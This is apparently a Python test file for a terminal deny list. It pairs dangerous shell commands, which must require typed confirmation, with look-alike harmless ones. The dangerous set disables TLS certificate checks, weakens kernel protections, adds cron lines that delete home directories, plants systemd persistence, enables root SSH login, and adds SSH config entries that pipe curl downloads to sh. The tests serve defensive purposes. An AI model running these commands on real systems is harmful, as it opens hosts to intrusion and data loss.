"""The deny list's walls after the fifteenth blind set, part h3 (issue 16): persistence,
guards and checks switched off, power targets — the certificate checks of what a tool
downloads switched off in its own settings (git, the JavaScript managers, pip and uv,
conda, composer, bundler, poetry, apt, dnf) or settings files, a system table's cron line
written without its user field, a transient timer behind `sudo`, a system unit linked from
home or copied from downloads, a user service made to linger, `systemctl default UNIT`,
and kernel settings written into `/etc/sysctl.d`. Each class is tried with neighbours
written for these tests beside look-alikes that must stay single-click: the admin's own
sysctl drop-in, a host entry appended to the SSH client's settings, a hardening edit of
`sshd_config` and a folder made by `install -d`."""

from __future__ import annotations

from tests.terminal.deny_class_cases import fixed_home as fixed_home
from tests.terminal.deny_class_cases import needs_typing_test, stays_quiet_test

DANGEROUS = {
    "certificate checks of what a tool downloads switched off in its settings": [
        "git config --system http.sslverify 0",
        "git config http.https://git.corp.example/.sslVerify false",
        "git -c http.sslVerify=false clone https://example.org/team/tool.git",
        "git config --global --bool http.sslVerify no",
        "npm set strict-ssl=false", "pnpm config set strict-ssl false --global",
        "yarn config set enableStrictSsl false", "npm install --strict-ssl=false left-pad",
        "pip3 config --user set global.trusted-host pypi.org",
        "python3 -m pip config set install.trusted-host files.pythonhosted.org",
        "pip install --trusted-host pypi.org requests",
        "uv pip install --allow-insecure-host 198.51.100.4 flask",
        "conda config --set ssl_verify false", "composer config -g disable-tls true",
        "composer config --global secure-http false",
        "bundle config set --global ssl_verify_mode 0",
        "poetry config certificates.corp.cert false",
        "sudo apt-get -o Acquire::https::Verify-Peer=false update",
        "sudo dnf --setopt=sslverify=0 install htop",
    ],
    "the same checks switched off by writing the tool's settings file": [
        "echo 'strict-ssl=false' >> ~/.npmrc",
        "printf '[global]\\ntrusted-host = pypi.org\\n' | sudo tee /etc/pip.conf",
        "printf '[http]\\n\\tsslVerify = false\\n' >> ~/.gitconfig",
        "echo 'ssl_verify: false' >> ~/.condarc",
        "echo 'Acquire::https::Verify-Peer \"false\";' | sudo tee /etc/apt/apt.conf.d/80tls",
        "echo sslverify=0 | sudo tee -a /etc/dnf/dnf.conf",
        "echo 'check_certificate = off' >> ~/.wgetrc",
    ],
    "a kernel protection switched off through the sysctl files": [
        "echo 'kernel.randomize_va_space=0' | sudo tee -a /etc/sysctl.conf",
        "printf 'vm.swappiness=10\\nkernel.yama.ptrace_scope = 0\\n' | "
        "sudo tee /etc/sysctl.d/60-tune.conf",
        "echo 'kernel.kptr_restrict=0' | sudo tee /etc/sysctl.d/99-debug.conf",
        "sudo sed -i 's/^kernel.randomize_va_space=2/kernel.randomize_va_space=0/' "
        "/etc/sysctl.conf",
        "echo 'vm.swappiness=10' | sudo tee /etc/sysctl.d/10-kernel-hardening.conf",
        "sudo tee /etc/sysctl.d/99-x.conf < settings.txt",
    ],
    "a cron line that deletes home, written by any writer, with or without its user": [
        "printf '0 3 * * * rm -rf /home/*\\n' | sudo tee -a /etc/cron.d/cleanup",
        "echo '@reboot rm -rf ~' | sudo tee /etc/cron.d/x",
        "sudo sh -c 'echo \"30 2 * * * find /home -delete\" >> /etc/crontab'",
        "echo '15 1 * * * root rm -rf /home/*' | sudo tee -a /etc/crontab",
    ],
    "a program planted to run at boot: timers, units linked from home, lingering": [
        "sudo -u bob nice systemd-run --on-calendar=hourly /tmp/.u",
        "sudo systemd-run --on-calendar=daily /home/alice/Downloads/x.sh",
        "sudo systemd-run --on-active=30 --unit=sync /var/tmp/.s",
        "sudo systemctl enable ~/units/agent.service",
        "sudo systemctl enable --now $HOME/x.service",
        "sudo cp ~/Downloads/helper.service /etc/systemd/system/ && sudo systemctl enable helper",
        "sudo ln -s /home/alice/Downloads/h.service /etc/systemd/system/h.service",
        "sudo loginctl enable-linger alice; systemctl --user start worker",
        "loginctl enable-linger && systemd-run --user --unit=w /usr/bin/python3 ~/w.py",
        "loginctl enable-linger \"$USER\"; systemctl --user enable agent.timer",
    ],
    "single-user, rescue or another target through `systemctl default UNIT`": [
        "sudo systemctl default emergency.target", "systemctl default multi-user.target",
        "sudo systemctl --no-block default rescue",
    ],
    "root or empty-password SSH logins turned on by an in-place edit": [
        "sudo sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
        "sudo sed -i '/^#PermitRootLogin/c PermitRootLogin yes' /etc/ssh/sshd_config",
        "sudo sed -i 's|PermitEmptyPasswords no|PermitEmptyPasswords yes|' /etc/ssh/sshd_config",
        "sudo sed -i 's/\\(PermitRootLogin\\) no/\\1 yes/' /etc/ssh/sshd_config",
    ],
    "an SSH client entry that runs a program or stops checking the server": [
        "printf 'Host build\\n  HostName 10.0.3.14\\n  ProxyCommand sh -c \"curl -s "
        "x.example/a|sh\"\\n' >> ~/.ssh/config",
        "printf 'Host *\\n  LocalCommand /tmp/.x\\n  PermitLocalCommand yes\\n' >> ~/.ssh/config",
        "printf 'Match exec \"curl -s 203.0.113.5/p | sh\"\\n' >> ~/.ssh/config",
        "printf 'Host *\\n  StrictHostKeyChecking no\\n' >> ~/.ssh/config",
        "printf 'Include /tmp/x.conf\\nHost a\\n  HostName b\\n' >> ~/.ssh/config",
        "printf 'Host build\\n  HostName 10.0.3.14\\n' > ~/.ssh/config",
    ],
    "a folder every account may write made in the system": [
        "sudo install -d -m 777 /etc/apt/keyrings", "sudo install -d -m 4755 /usr/bin/x",
    ],
}

HARMLESS = [
    # certificate settings read, turned back on, or pointed at a company's CA
    "git config --get http.sslVerify", "git config --global http.sslVerify true",
    "git config --global http.sslCAInfo /etc/ssl/certs/corp.pem",
    "npm config get strict-ssl", "npm config set strict-ssl true",
    "npm config set cafile /etc/ssl/certs/corp.pem",
    "pip config set global.index-url https://pypi.org/simple", "pip config list",
    "conda config --set ssl_verify /etc/ssl/corp.pem", "composer config -g secure-http true",
    "composer config disable-tls false", "git commit -m 'http.sslVerify false was wrong'",
    "printf '[global]\\nindex-url = https://pypi.org/simple\\n' > ~/.config/pip/pip.conf",
    # the admin's own kernel settings drop-in
    "echo 'vm.swappiness=10' | sudo tee /etc/sysctl.d/60-swappiness.conf && sudo sysctl -p "
    "/etc/sysctl.d/60-swappiness.conf",
    "printf 'fs.inotify.max_user_watches=524288\\n' | sudo tee /etc/sysctl.d/60-inotify.conf",
    "echo 'vm.swappiness=10' > /etc/sysctl.d/99-swap.conf",
    "sudo sed -i 's/^vm.swappiness=60/vm.swappiness=10/' /etc/sysctl.conf",
    # host entries appended to the SSH client's settings
    "echo -e 'Host gpu\\n  HostName gpu.lab.example\\n  Port 2222\\n  IdentityFile "
    "~/.ssh/id_ed25519' >> ~/.ssh/config",
    "printf '\\nHost db\\n  HostName 192.0.2.10\\n  User deploy\\n' >> ~/.ssh/config",
    # hardening edits of sshd_config
    "sudo sed -i 's/^PermitEmptyPasswords yes/PermitEmptyPasswords no/' /etc/ssh/sshd_config",
    "sudo sed -i -e 's/PasswordAuthentication yes/PasswordAuthentication no/' -e "
    "'s/PermitRootLogin yes/PermitRootLogin prohibit-password/' /etc/ssh/sshd_config",
    "sudo sed -i 's/^\\(PasswordAuthentication\\) yes/\\1 no/' /etc/ssh/sshd_config",
    # folders made by install -d
    "sudo install -d /etc/myapp /usr/share/myapp", "sudo install -m 0755 -d /usr/share/keyrings",
    # cron lines, units, timers and lingering that plant nothing unread
    "echo '0 3 * * * root /usr/local/bin/backup.sh' | sudo tee -a /etc/crontab",
    "echo '17 * * * * root cd / && run-parts --report /etc/cron.hourly' | "
    "sudo tee /etc/cron.d/hourly",
    "echo '0 4 * * * www-data php /var/www/cron.php' | sudo tee /etc/cron.d/app",
    "echo '0 3 * * * rm -rf /tmp/cache/*' | sudo tee -a /etc/crontab",
    "sudo systemd-run --on-boot=60 /usr/local/bin/backup",
    "systemctl --user link ~/dotfiles/sync.service", "sudo systemctl link /opt/app/app.service",
    "sudo cp deploy/app.service /etc/systemd/system/ && sudo systemctl enable app",
    "loginctl enable-linger $USER", "systemctl --user enable --now syncthing.service",
    "loginctl show-user $USER && systemctl --user status syncthing",
    "loginctl disable-linger $USER; systemctl --user stop worker",
    "systemctl default", "systemctl get-default", "sudo systemctl set-default graphical.target",
]

test_needs_typing_v15_h3 = needs_typing_test(DANGEROUS)
test_stays_quiet_v15_h3 = stays_quiet_test(HARMLESS)
